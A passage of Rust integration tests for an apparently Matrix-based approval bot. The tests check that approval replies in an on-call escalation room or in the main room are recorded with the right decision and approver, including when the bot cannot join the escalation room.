        .say(&on_call, &format!("approve {rid} checked from the on-call room"))
        .await;
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    drop(w.synapse);
}

/// An escalation room the bot cannot join (nobody invited it): the main room still gets the
/// escalation notice, and an answer there still counts.
#[tokio::test(flavor = "multi_thread")]
async fn an_escalation_room_the_bot_cannot_join_does_not_hold_up_the_main_room() {
    let w = world("").await;
    let on_call = w.carol.create_room(&[ALICE]).await;
    let (child, rid) = escalated_to(&w, &on_call).await;
    w.alice
        .wait_for(&w.room, "the escalation notice in the main room", |e| {
            e["sender"] == BOT && body(e).contains("Escalation") && body(e).contains(&rid)
        })
        .await;
    w.alice
        .say(&w.room, &format!("approve {rid} checked after the escalation"))
        .await;
    let (json, _) = finish(child);
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["who"], ALICE, "{json}");
    drop(w.synapse);
}
